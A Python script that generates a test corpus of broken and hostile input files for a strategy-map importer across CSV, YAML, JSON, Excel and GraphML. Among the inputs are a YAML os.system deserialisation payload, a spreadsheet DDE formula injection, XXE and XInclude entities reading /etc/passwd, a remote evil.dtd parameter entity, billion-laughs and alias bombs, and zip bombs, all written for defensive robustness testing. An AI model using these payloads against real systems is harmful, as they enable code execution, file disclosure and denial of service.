"""Write the corpus of broken and hostile map files under ``tests/data/bad/``.

Run ``python tests/data/make_bad_corpus.py`` to (re)write the small files, which are committed.
The large inputs (a 1 MB cell, a 100 000-deep chain, zip bombs) are written at test time by
:func:`write_large` into a temporary folder instead. Every file is the same on every run.
"""

from __future__ import annotations

import codecs
import io
import random
import re
import sys
import zipfile
from pathlib import Path
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Iterator

HERE = Path(__file__).parent / "bad"
HEADER = "id,type,title,parents\n"
VALID_CSV = (
    "id,type,title,parents,budget\n"
    "V1,vision,Et godt liv,,\n"
    "S1,strategy,Tidlig indsats,V1,\n"
    "G1,effect_goal,Færre anbringelser,S1,1000\n"
    "A1,agreement,Aftale med Børn og Familie,G1,\n"
    "P1,project,Familiehuset,A1,250\n"
)


def _garbage(seed: int, n: int, *, nul: bool = True) -> bytes:
    rng = random.Random(seed)  # noqa: S311 - reproducible garbage, not secrets
    low = 0 if nul else 1
    return bytes(rng.randint(low, 255) for _ in range(n))


# -- CSV ----------------------------------------------------------------------------------------


def _chain_csv(n: int, *, cycle: bool = False) -> str:
    """A strategy and ``n`` nestable goals in one chain (closed into a cycle if asked).

    Each goal's title is a made-up word of Latin, Greek and Cyrillic letters. The chain tests
    depth; words of Danish letters alone would share so many trigrams that ``near_duplicates``
    takes most of a minute on 100 000 goals (a cost of that analysis, not of the depth).
    """
    rng = random.Random(n)  # noqa: S311 - reproducible words, not secrets
    letters = "abdefghijklmnoprstuvyæøå" + "αβγδεζηθικλμνξπρστυφχψω" + "бвгджзклмнпрстфхцчшщэюя"
    first = f"G{n - 1}" if cycle else "S1"
    rows = [HEADER, "S1,strategy,Strategi,\n"]
    for i in range(n):
        word = "".join(rng.choice(letters) for _ in range(10))
        rows.append(f"G{i},effect_goal,Mål {word},{first if i == 0 else f'G{i - 1}'}\n")
    return "".join(rows)


def csv_files() -> dict[str, bytes]:
    """Return the CSV inputs by file name."""
    utf8 = VALID_CSV.encode()
    return {
        "empty.csv": b"",
        "blank_lines.csv": b"\n\n  \r\n\t\n",
        "header_only.csv": HEADER.encode(),
        "header_unknown.csv": b"foo,bar,baz\n1,2,3\n",
        "garbage.csv": _garbage(1, 4000),
        "garbage_no_nul.csv": _garbage(2, 4000, nul=False),
        "utf16_no_bom.csv": VALID_CSV.encode("utf-16-le"),
        "utf16_bom.csv": codecs.BOM_UTF16_LE + VALID_CSV.encode("utf-16-le"),
        "latin1_0x81.csv": "id,type,title\nS1,strategy,Tidlig indsats \x81\n".encode("latin-1"),
        "cp1252_danish.csv": "id;type;titel;forælder;budget\nS1;strategi;Ældre i job;;1.234,50\n"
        "G1;effektmål;Færre på overførsel;S1;12,5\n".encode("cp1252"),
        "duplicate_ids.csv": (VALID_CSV + "G1,effect_goal,Igen,S1,\n").encode(),
        "dangling_parent.csv": (VALID_CSV + "G2,effect_goal,Uden forælder,S9,\n").encode(),
        "long_cycle.csv": _chain_csv(1000, cycle=True).encode(),
        "self_parent.csv": b"id,type,title,parents\nG1,effect_goal,Mig selv,G1\n",
        "inverted_levels.csv": (
            b"id,type,title,parents\nP1,project,Projekt,\nS1,strategy,Strategi,P1\n"
        ),
        "unknown_type.csv": b"id,type,title\nX1,tryllestav,Magi\n",
        "huge_number.csv": (HEADER[:-1] + ",budget\nS1,strategy,Stor,,1e400\n").encode(),
        "nan_budget.csv": (HEADER[:-1] + ",budget\nS1,strategy,Ikke et tal,,NaN\n").encode(),
        "negative_budget.csv": (HEADER[:-1] + ",budget\nS1,strategy,Minus,,-5\n").encode(),
        "text_budget.csv": (HEADER[:-1] + ",budget\nS1,strategy,Tekst,,mange penge\n").encode(),
        "formula_cells.csv": (
            b"id,type,title,description,owner\n"
            b'S1,strategy,=HYPERLINK("http://example.invalid";"klik"),'
            b"\"=cmd|' /C calc'!A0\",+SUM(1;2)\n"
            b'S2,strategy,@SUM(A1:A9),-2+3,"=1+1"\n'
        ),
        "mixed_line_endings.csv": (
            "id,type,title,parents,budget\r\nV1,vision,Et godt liv,,\n"
            "S1,strategy,Tidlig indsats,V1,\rG1,effect_goal,Færre anbringelser,S1,1000\r\n"
            "A1,agreement,Aftale,G1,\n\rP1,project,Familiehuset,A1,250"
        ).encode(),
        "bom_mid_file.csv": (
            "id,type,title,parents\nS1,strategy,Strategi,\n\ufeffG1,effect_goal,Mål,S1\n"
            "A1,agreement,Aftale,G1\n"
        ).encode(),
        "nul_early.csv": b"id,type,title\nS1,strategy,Nul\x00her\n",
        "nul_late.csv": (
            VALID_CSV + "".join(f"x{i},project,P {i},A1,\n" for i in range(300))
        ).encode()
        + b"Z1,project,Nul\x00byte,A1,\n",
        "unclosed_quote.csv": b'id,type,title\nS1,strategy,"Aldrig lukket\nG1,effect_goal,Mal\n',
        "ragged_rows.csv": b"id,type,title\nS1,strategy,Strategi,ekstra,og mere\n",
        "tab_separated.csv": VALID_CSV.replace(",", "\t").encode(),
        "separator_in_id.csv": b'id,type,title\n"S1,S2",strategy,Strategi\n',
        "control_char_id.csv": b"id,type,title\nS\x071,strategy,Klokke\n",
        "bad_links_cell.csv": (
            b"id,type,title,links\nS1,strategy,A,supports\nS2,strategy,B,tension:S9\n"
        ),
        "many_columns.csv": (
            ",".join(["id", "type", "title", *(f"k{i}" for i in range(16_381))])
            + "\n"
            + ",".join(["S1", "strategy", "Bred", *(str(i % 10) for i in range(16_381))])
            + "\n"
        ).encode(),
        "bad_sibling.csv": utf8,
        "bad_sibling.links.csv": _garbage(3, 300),
    }


# -- YAML ---------------------------------------------------------------------------------------

_YAML_OK = """\
name: Test
elements:
  - {id: S1, type: strategy, title: Tidlig indsats}
  - {id: G1, type: effect_goal, title: Færre anbringelser, parents: [S1]}
"""


def _alias_bomb(at_top: bool) -> str:
    indent = "" if at_top else "    "
    lines = [] if at_top else ["elements:", "  - id: S1", "    type: strategy", "    title: Bombe"]
    lines.append(f'{indent}a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]')
    previous = "a"
    for key in "bcdefghi":
        lines.append(f"{indent}{key}: &{key} [" + ",".join([f"*{previous}"] * 9) + "]")
        previous = key
    if at_top:
        lines += ["elements:", "  - {id: S1, type: strategy, title: Bombe, x: *i}"]
    return "\n".join(lines) + "\n"


def yaml_files() -> dict[str, bytes]:
    """Return the YAML inputs by file name."""
    texts = {
        "empty.yaml": "",
        "comment_only.yaml": "# intet her\n",
        "scalar.yaml": "bare en tekst\n",
        "list_top.yaml": "- id: S1\n  type: strategy\n  title: A\n",
        "elements_mapping.yaml": "elements:\n  S1: {type: strategy, title: A}\n",
        "alias_bomb.yaml": _alias_bomb(at_top=False),
        "alias_bomb_top.yaml": _alias_bomb(at_top=True),
        "recursive_alias.yaml": "elements:\n  - &e {id: S1, type: strategy, title: A, self: *e}\n",
        "python_object.yaml": (
            "elements: !!python/object/apply:os.system ['echo pwned > pwned.txt']\n"
        ),
        "python_name.yaml": (
            "elements:\n  - {id: S1, type: strategy, title: !!python/name:os.system }\n"
        ),
        "custom_tag.yaml": "elements:\n  - !Element {id: S1, type: strategy, title: A}\n",
        "duplicate_keys.yaml": (
            "elements:\n  - id: S1\n    type: strategy\n    title: A\n    title: B\n"
        ),
        "duplicate_ids.yaml": _YAML_OK + "  - {id: G1, type: effect_goal, title: Igen}\n",
        "dangling_parent.yaml": _YAML_OK
        + "  - {id: G2, type: effect_goal, title: X, parents: [S9]}\n",
        "cycle.yaml": (
            "elements:\n"
            "  - {id: G1, type: effect_goal, title: A, parents: [G3]}\n"
            "  - {id: G2, type: effect_goal, title: B, parents: [G1]}\n"
            "  - {id: G3, type: effect_goal, title: C, parents: [G2]}\n"
        ),
        "tabs.yaml": "elements:\n\t- id: S1\n",
        "truncated.yaml": _YAML_OK[:70],
        "multi_document.yaml": _YAML_OK + "---\n" + _YAML_OK,
        "date_id_title.yaml": (
            "elements:\n  - {id: 2013-01-01, type: strategy, title: 2014-02-03}\n"
        ),
        "bool_id.yaml": "elements:\n  - {id: yes, type: strategy, title: Ja}\n",
        "nan_id.yaml": "elements:\n  - {id: .nan, type: strategy, title: Ikke et tal}\n",
        "nan_budget.yaml": "elements:\n  - {id: S1, type: strategy, title: A, budget: .nan}\n",
        "inf_budget.yaml": "elements:\n  - {id: S1, type: strategy, title: A, budget: .inf}\n",
        "huge_budget.yaml": "elements:\n  - {id: S1, type: strategy, title: A, budget: 1.0e400}\n",
        "negative_budget.yaml": "elements:\n  - {id: S1, type: strategy, title: A, budget: -1}\n",
        "big_int_budget.yaml": "elements:\n  - {id: S1, type: strategy, title: A, budget: "
        + "9" * 5000
        + "}\n",
        "schema_garbage.yaml": "schema: {levels: 7}\n" + _YAML_OK.split("\n", 1)[1],
        "unknown_preset.yaml": "schema: okrr\n" + _YAML_OK.split("\n", 1)[1],
        "links_garbage.yaml": _YAML_OK
        + "links:\n  - [S1, G1]\n  - {source: S1, target: G1, kind: x}\n",
        "mixed_line_endings.yaml": _YAML_OK.replace("\n", "\r\n", 2).replace(
            "  - {id: G1", "\r  - {id: G1"
        ),
        "formula_title.yaml": "elements:\n  - {id: S1, type: strategy, title: '=1+1'}\n",
        "yaml11_scalars.yaml": (
            "name: 2013\nelements:\n  - {id: 010, type: strategy, title: 12:30, owner: 0x1F}\n"
            "  - {id: G1, type: effect_goal, title: yes, parents: [010], agenda: [on, 1_000]}\n"
        ),
        "binary_value.yaml": (
            "elements:\n  - {id: S1, type: strategy, title: A, x: !!binary aGVq}\n"
        ),
        "set_value.yaml": "elements:\n  - {id: S1, type: strategy, title: A, x: !!set {a, b}}\n",
    }
    files = {name: text.encode() for name, text in texts.items()}
    files["utf16_no_bom.yaml"] = _YAML_OK.encode("utf-16-le")
    files["latin1_0x81.yaml"] = _YAML_OK.replace("Tidlig", "Tidlig \x81").encode("latin-1")
    files["garbage.yaml"] = _garbage(4, 3000)
    return files


# -- JSON ---------------------------------------------------------------------------------------

_JSON_OK = (
    '{"name": "Test", "elements": [\n'
    '  {"id": "S1", "type": "strategy", "title": "Tidlig indsats"},\n'
    '  {"id": "G1", "type": "effect_goal", "title": "Færre anbringelser", "parents": ["S1"]}\n'
    "]}\n"
)


def _json_element(extra: str) -> str:
    return '{"elements": [{"id": "S1", "type": "strategy", "title": "A"' + extra + "}]}\n"


def json_files() -> dict[str, bytes]:
    """Return the JSON inputs by file name."""
    texts = {
        "empty.json": "",
        "null.json": "null\n",
        "array_top.json": "[]\n",
        "elements_string.json": '{"elements": "S1"}\n',
        "elements_nulls.json": '{"elements": [null, 3, "x"]}\n',
        "truncated.json": _JSON_OK[:60],
        "trailing_comma.json": _JSON_OK.replace('"S1"]}', '"S1"],}'),
        "nan_literal.json": _json_element(', "budget": NaN'),
        "infinity_literal.json": _json_element(', "budget": Infinity'),
        "minus_infinity.json": _json_element(', "budget": -Infinity'),
        "huge_number.json": _json_element(', "budget": 1e400'),
        "big_int.json": _json_element(', "budget": ' + "9" * 5000),
        "negative_budget.json": _json_element(', "budget": -0.5'),
        "string_budget.json": _json_element(', "budget": "mange"'),
        "duplicate_keys.json": _json_element(', "title": "B"'),
        "duplicate_ids.json": _JSON_OK.replace('"G1"', '"S1"'),
        "dangling_parent.json": _JSON_OK.replace('["S1"]', '["S9"]'),
        "inverted_levels.json": (
            '{"elements": [{"id": "P1", "type": "project", "title": "P"},'
            ' {"id": "V1", "type": "vision", "title": "V", "parents": ["P1"]}]}\n'
        ),
        "object_id.json": '{"elements": [{"id": {"a": 1}, "type": "strategy", "title": "A"}]}\n',
        "nul_in_id.json": '{"elements": [{"id": "S\\u00001", "type": "strategy", "title": "A"}]}\n',
        "lone_surrogate.json": _json_element(', "description": "\\ud800"'),
        "bom_mid_file.json": _JSON_OK.replace("\n  {", "\n\ufeff  {", 1),
        "control_title.json": (
            '{"elements": [{"id": "S1", "type": "strategy", "title": "\\u0007"}]}\n'
        ),
        "mixed_line_endings.json": _JSON_OK.replace("\n", "\r", 1).replace("\n", "\r\n", 1),
    }
    files = {name: text.encode() for name, text in texts.items()}
    files["utf16_bom.json"] = codecs.BOM_UTF16_LE + _JSON_OK.encode("utf-16-le")
    files["utf16_no_bom.json"] = _JSON_OK.encode("utf-16-be")
    files["latin1_0x81.json"] = _JSON_OK.replace("Tidlig", "Tidlig \x81").encode("latin-1")
    files["garbage.json"] = _garbage(5, 2000)
    return files


# -- Excel --------------------------------------------------------------------------------------


_STAMP = (2013, 1, 1, 0, 0, 0)


def _fixed_zip(data: bytes) -> bytes:
    """Rewrite a zip with every member dated ``_STAMP``, so that the bytes are the same each run."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as src,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst,
    ):
        for info in src.infolist():
            member = zipfile.ZipInfo(info.filename, date_time=_STAMP)
            member.compress_type = zipfile.ZIP_DEFLATED
            content = src.read(info.filename)
            if info.filename == "docProps/core.xml":  # openpyxl stamps the time of saving
                content = re.sub(
                    rb"(<dcterms:modified[^>]*>)[^<]*", rb"\g<1>2013-01-01T00:00:00Z", content
                )
            dst.writestr(member, content)
    return out.getvalue()


def _workbook(build: object) -> bytes:
    import datetime as dt  # noqa: PLC0415

    import openpyxl  # noqa: PLC0415 - only the generator needs it

    book = openpyxl.Workbook()
    build(book)  # type: ignore[operator]
    stamp = dt.datetime(*_STAMP)  # noqa: DTZ001 - the workbook's own dates have no time zone
    book.properties.created = stamp
    out = io.BytesIO()
    book.save(out)
    return _fixed_zip(out.getvalue())


def _rows(ws: object, rows: list[list[object]]) -> None:
    for row in rows:
        ws.append(row)  # type: ignore[attr-defined]


_XL_ROWS: list[list[object]] = [
    ["id", "type", "title", "parents"],
    ["S1", "strategy", "Tidlig indsats", None],
    ["G1", "effect_goal", "Færre anbringelser", "S1"],
    ["A1", "agreement", "Aftale", "G1"],
]


def _valid_book(book: object) -> None:
    ws = book.active  # type: ignore[attr-defined]
    ws.title = "elements"
    _rows(ws, _XL_ROWS)


def _formula(book: object) -> None:
    _valid_book(book)
    ws = book.active  # type: ignore[attr-defined]
    ws["C2"] = '=HYPERLINK("http://example.invalid","klik")'
    ws["E1"] = "note"
    ws["E3"] = "=1+1"


def _dates(book: object) -> None:
    import datetime as dt  # noqa: PLC0415

    ws = book.active  # type: ignore[attr-defined]
    ws.title = "elements"
    midnight = dt.datetime(2013, 1, 1)  # noqa: DTZ001 - Excel cells have no time zone
    _rows(ws, [["id", "type", "title"], [midnight, "strategy", dt.date(2014, 2, 3)]])


def _date_title(book: object) -> None:
    import datetime as dt  # noqa: PLC0415

    ws = book.active  # type: ignore[attr-defined]
    ws.title = "elements"
    noon = dt.datetime(2014, 2, 3, 12, 30)  # noqa: DTZ001 - Excel cells have no time zone
    _rows(ws, [["id", "type", "title"], ["S1", "strategy", noon]])


def _merged(book: object) -> None:
    ws = book.active  # type: ignore[attr-defined]
    ws.title = "elements"
    _rows(ws, [[*r] for r in _XL_ROWS] + [["G2", "effect_goal", "Flere i job", "S1"]])
    ws.merge_cells("B3:B5")  # one "effect_goal" over three rows: each row reads it


def _merged_title(book: object) -> None:
    ws = book.active  # type: ignore[attr-defined]
    ws.title = "elements"
    _rows(
        ws,
        [["id", "type", "title", "parents", "owner"], ["S1", "strategy", "Bred titel", None, "X"]],
    )
    ws.merge_cells("C2:D2")


def _hidden(book: object) -> None:
    notes = book.active  # type: ignore[attr-defined]
    notes.title = "noter"
    notes["A1"] = "intet her"
    notes.sheet_state = "hidden"
    ws = book.create_sheet("elements")  # type: ignore[attr-defined]
    _rows(ws, _XL_ROWS)
    ws.row_dimensions[3].hidden = True
    ws.column_dimensions["D"].hidden = True
    secret = book.create_sheet("links")  # type: ignore[attr-defined]
    _rows(secret, [["source", "target", "kind", "note"], ["S1", "A1", "supports", "skjult"]])
    secret.sheet_state = "veryHidden"


def _only_hidden(book: object) -> None:
    _valid_book(book)
    book.active.sheet_state = "hidden"  # type: ignore[attr-defined]
    book.create_sheet("tom")  # type: ignore[attr-defined]


def _wide(book: object) -> None:
    ws = book.active  # type: ignore[attr-defined]
    ws.title = "elements"
    _rows(ws, [["id", "type", "title", *(f"k{i}" for i in range(16_381))]])
    _rows(ws, [["S1", "strategy", "Bred", *(i % 10 for i in range(16_381))]])


def _empty_sheet(book: object) -> None:
    book.active.title = "elements"  # type: ignore[attr-defined]


def _header_only(book: object) -> None:
    ws = book.active  # type: ignore[attr-defined]
    ws.title = "elements"
    _rows(ws, [_XL_ROWS[0]])


def _bad_cells(book: object) -> None:
    ws = book.active  # type: ignore[attr-defined]
    ws.title = "elements"
    _rows(
        ws,
        [
            ["id", "type", "title", "parents", "budget", "start"],
            ["S1", "strategy", "A", None, float("nan"), None],
            ["S2", "strategy", "B", "S9", -3, 2013.5],
            ["S2", "strategy", True, None, "mange", None],
        ],
    )


def _replace_member(data: bytes, member: str, content: bytes) -> bytes:
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as src,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst,
    ):
        for info in src.infolist():
            dst.writestr(info, content if info.filename == member else src.read(info.filename))
    return out.getvalue()


def excel_files() -> dict[str, bytes]:
    """Return the Excel inputs by file name."""
    valid = _workbook(_valid_book)
    not_book = io.BytesIO()
    with zipfile.ZipFile(not_book, "w") as z:
        z.writestr(zipfile.ZipInfo("readme.txt", date_time=_STAMP), "ikke en projektmappe")
    sheet = "xl/worksheets/sheet1.xml"
    return {
        "empty.xlsx": b"",
        "text.xlsx": VALID_CSV.encode(),
        "zip_not_workbook.xlsx": not_book.getvalue(),
        "truncated.xlsx": valid[: len(valid) // 2],
        "garbage.xlsx": _garbage(6, 5000),
        "old_xls_header.xlsx": bytes.fromhex("d0cf11e0a1b11ae1") + _garbage(7, 1000),
        "formula_cell.xlsx": _workbook(_formula),
        "dates_in_id.xlsx": _workbook(_dates),
        "date_title.xlsx": _workbook(_date_title),
        "merged_type.xlsx": _workbook(_merged),
        "merged_title.xlsx": _workbook(_merged_title),
        "hidden_sheets.xlsx": _workbook(_hidden),
        "only_sheet_hidden.xlsx": _workbook(_only_hidden),
        "many_columns.xlsx": _workbook(_wide),
        "empty_sheet.xlsx": _workbook(_empty_sheet),
        "header_only.xlsx": _workbook(_header_only),
        "bad_cells.xlsx": _workbook(_bad_cells),
        "sheet_xml_garbage.xlsx": _replace_member(valid, sheet, b"<worksheet><sheetData><row"),
        "sheet_entities.xlsx": _replace_member(
            valid,
            sheet,
            b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">'
            b'<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
            b'<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">'
            b'<!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">'
            b'<!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;">'
            b'<!ENTITY f "&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;">'
            b'<!ENTITY g "&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;">]>'
            b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
            b'<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&g;</t></is></c></row>'
            b"</sheetData></worksheet>",
        ),
        "dimension_bomb.xlsx": _replace_member(
            valid,
            sheet,
            b'<?xml version="1.0"?>'
            b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
            b'<dimension ref="A1:XFD1048576"/><sheetData>'
            b'<row r="1"><c r="A1" t="inlineStr"><is><t>id</t></is></c>'
            b'<c r="B1" t="inlineStr"><is><t>type</t></is></c>'
            b'<c r="C1" t="inlineStr"><is><t>title</t></is></c></row>'
            b'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>'
            b"</sheetData></worksheet>",
        ),
    }


# -- GraphML ------------------------------------------------------------------------------------

_GRAPHML_HEAD = (
    '<?xml version="1.0" encoding="UTF-8"?>\n'
    '<graphml xmlns="http://graphml.graphdrawing.org/xmlns">\n'
    '  <key id="type" for="node" attr.name="type" attr.type="string"/>\n'
    '  <key id="title" for="node" attr.name="title" attr.type="string"/>\n'
    '  <key id="budget" for="node" attr.name="budget" attr.type="double"/>\n'
    '  <key id="kind" for="edge" attr.name="kind" attr.type="string"/>\n'
    '  <graph edgedefault="directed">\n'
)
_GRAPHML_TAIL = "  </graph>\n</graphml>\n"


def _node(nid: str, kind: str, title: str, budget: str | None = None) -> str:
    extra = f'<data key="budget">{budget}</data>' if budget is not None else ""
    return (
        f'    <node id="{nid}"><data key="type">{kind}</data>'
        f'<data key="title">{title}</data>{extra}</node>\n'
    )


def _edge(a: str, b: str, kind: str = "hierarchy") -> str:
    return f'    <edge source="{a}" target="{b}"><data key="kind">{kind}</data></edge>\n'


def _graphml(body: str, head: str = _GRAPHML_HEAD) -> str:
    return head + body + _GRAPHML_TAIL


_LAUGHS = (
    '<?xml version="1.0"?>\n<!DOCTYPE graphml [\n <!ENTITY lol "lol">\n'
    + "".join(
        f' <!ENTITY lol{k} "' + f"&lol{k - 1 if k > 1 else ''};" * 10 + '">\n' for k in range(1, 10)
    )
    + "]>\n"
)


def graphml_files() -> dict[str, bytes]:
    """Return the GraphML inputs by file name."""
    ok = (
        _node("S1", "strategy", "Tidlig indsats")
        + _node("G1", "effect_goal", "Færre")
        + _edge("S1", "G1")
    )
    bare_head = _GRAPHML_HEAD.split("\n", 1)[1]
    texts = {
        "empty.graphml": "",
        "text.graphml": VALID_CSV,
        "not_graphml.graphml": '<?xml version="1.0"?><html><body>hej</body></html>\n',
        "truncated.graphml": _graphml(ok)[:300],
        "billion_laughs.graphml": _LAUGHS
        + bare_head
        + _node("S1", "strategy", "&lol9;")
        + _GRAPHML_TAIL,
        "external_entity.graphml": (
            '<?xml version="1.0"?>\n<!DOCTYPE graphml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
            + bare_head
            + _node("S1", "strategy", "&xxe;")
            + _GRAPHML_TAIL
        ),
        "parameter_entity.graphml": (
            '<?xml version="1.0"?>\n<!DOCTYPE graphml [<!ENTITY % ext SYSTEM '
            '"http://example.invalid/evil.dtd"> %ext;]>\n' + bare_head + ok + _GRAPHML_TAIL
        ),
        "external_dtd.graphml": (
            '<?xml version="1.0"?>\n<!DOCTYPE graphml SYSTEM '
            '"http://www.graphdrawing.org/dtds/graphml.dtd">\n' + bare_head + ok + _GRAPHML_TAIL
        ),
        "xinclude.graphml": _graphml(
            ok.replace(
                "Færre",
                '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"'
                ' parse="text"/>',
            )
        ),
        "duplicate_nodes.graphml": _graphml(ok + _node("S1", "strategy", "Anden titel")),
        "undeclared_node.graphml": _graphml(ok + _edge("G1", "P9")),
        "dangling_and_cycle.graphml": _graphml(
            ok + _node("G2", "effect_goal", "B") + _edge("G1", "G2") + _edge("G2", "G1")
        ),
        "inverted_levels.graphml": _graphml(ok + _node("P1", "project", "P") + _edge("P1", "S1")),
        "unknown_kind.graphml": _graphml(ok.replace(">hierarchy<", ">magi<")),
        "huge_number.graphml": _graphml(_node("S1", "strategy", "A", "1e400")),
        "nan_budget.graphml": _graphml(_node("S1", "strategy", "A", "NaN")),
        "negative_budget.graphml": _graphml(_node("S1", "strategy", "A", "-7")),
        "text_in_double.graphml": _graphml(_node("S1", "strategy", "A", "mange")),
        "no_type.graphml": _graphml('    <node id="S1"/>\n'),
        "bad_id.graphml": _graphml(_node("S1:2", "strategy", "A")),
        "undirected.graphml": _graphml(ok).replace(
            'edgedefault="directed"', 'edgedefault="undirected"'
        ),
        "hyperedge.graphml": _graphml(
            ok + '    <hyperedge><endpoint node="S1"/><endpoint node="G1"/></hyperedge>\n'
        ),
        "nested_graph.graphml": _graphml(
            '    <node id="S1"><graph id="inner" edgedefault="directed">'
            '<node id="X"/></graph></node>\n'
        ),
        "bad_attrs_json.graphml": _graphml(ok)
        .replace(
            '<key id="kind"',
            '<key id="attrs" for="node" attr.name="attrs" attr.type="string"/>\n  <key id="kind"',
        )
        .replace("</data></node>", '</data><data key="attrs">{ikke json</data></node>', 1),
        "mixed_line_endings.graphml": _graphml(ok).replace("\n", "\r", 3).replace("\n", "\r\n", 3),
        "two_graphs.graphml": _graphml(ok).replace(
            "</graphml>",
            '<graph id="andet" edgedefault="directed"><node id="X"/></graph></graphml>',
        ),
        "attrs_list.graphml": _graphml(ok)
        .replace(
            '<key id="kind"',
            '<key id="attrs" for="node" attr.name="attrs" attr.type="string"/>\n  <key id="kind"',
        )
        .replace("</data></node>", '</data><data key="attrs">[1, 2]</data></node>', 1),
        "attrs_number.graphml": _graphml(ok)
        .replace(
            '<key id="kind"',
            '<key id="attrs" for="node" attr.name="attrs" attr.type="string"/>\n  <key id="kind"',
        )
        .replace("</data></node>", '</data><data key="attrs">7</data></node>', 1),
    }
    files = {name: text.encode() for name, text in texts.items()}
    files["utf16_declared.graphml"] = _graphml(ok).replace("UTF-8", "UTF-16").encode("utf-16")
    files["latin1_0x81.graphml"] = _graphml(ok).replace("Færre", "F\x81rre").encode("latin-1")
    files["garbage.graphml"] = _garbage(8, 3000)
    return files


def corpus() -> dict[str, bytes]:
    """Return every committed input by file name."""
    return {
        **csv_files(),
        **yaml_files(),
        **json_files(),
        **excel_files(),
        **graphml_files(),
    }


# -- generated at test time -----------------------------------------------------------------------


def _bomb_member(size: int) -> Iterator[bytes]:
    chunk = b" " * (1 << 20)
    for _ in range(size >> 20):
        yield chunk


def write_large(folder: Path) -> list[Path]:
    """Write the large inputs into ``folder`` and return their paths."""
    folder.mkdir(parents=True, exist_ok=True)
    paths = []
    big = folder / "one_mb_cell.csv"
    big.write_text(
        "id,type,title,description\nS1,strategy," + "Æ" * (1 << 19) + "," + "x" * (1 << 20) + "\n",
        encoding="utf-8",
    )
    paths.append(big)
    deep = folder / "deep_chain.csv"
    deep.write_text(_chain_csv(100_000), encoding="utf-8")
    paths.append(deep)
    deep_texts = {
        "deep_nested.yaml": "elements: " + "[" * 100_000 + "]" * 100_000 + "\n",
        "deep_arrays.json": "[" * 100_000 + "]" * 100_000,
        "deep_objects.json": '{"a":' * 100_000 + "1" + "}" * 100_000,
        "deep_xml.graphml": _graphml(
            _node("S1", "strategy", "A") + "<data>" * 100_000 + "</data>" * 100_000
        ),
    }
    for name, text in deep_texts.items():
        (folder / name).write_text(text, encoding="utf-8")
        paths.append(folder / name)
    valid = _workbook(_valid_book)
    for name, member in (
        ("zip_bomb_sheet.xlsx", "xl/worksheets/sheet1.xml"),
        ("zip_bomb_strings.xlsx", "xl/sharedStrings.xml"),
    ):
        path = folder / name
        with (
            zipfile.ZipFile(io.BytesIO(valid)) as src,
            zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as dst,
        ):
            for info in src.infolist():
                if info.filename == member:
                    continue
                dst.writestr(info, src.read(info.filename))
            info = zipfile.ZipInfo(member)
            info.compress_type = zipfile.ZIP_DEFLATED
            with dst.open(info, "w", force_zip64=True) as out:
                head = src.read(member) if member in src.namelist() else b"<sst>"
                out.write(
                    head[
                        : head.find(b">", head.find(b"<sheetData") if b"<sheetData" in head else 0)
                        + 1
                    ]
                )
                for chunk in _bomb_member(1 << 30):
                    out.write(chunk)
        paths.append(path)
    return paths


def main() -> None:
    """Write the committed corpus into ``tests/data/bad/``, replacing what was there."""
    HERE.mkdir(exist_ok=True)
    files = corpus()
    for old in HERE.iterdir():
        if old.name not in files:
            old.unlink()
    for name, data in sorted(files.items()):
        (HERE / name).write_bytes(data)
    total = sum(len(d) for d in files.values())
    sys.stdout.write(f"wrote {len(files)} files, {total / 1e6:.2f} MB, to {HERE}\n")


if __name__ == "__main__":
    main()
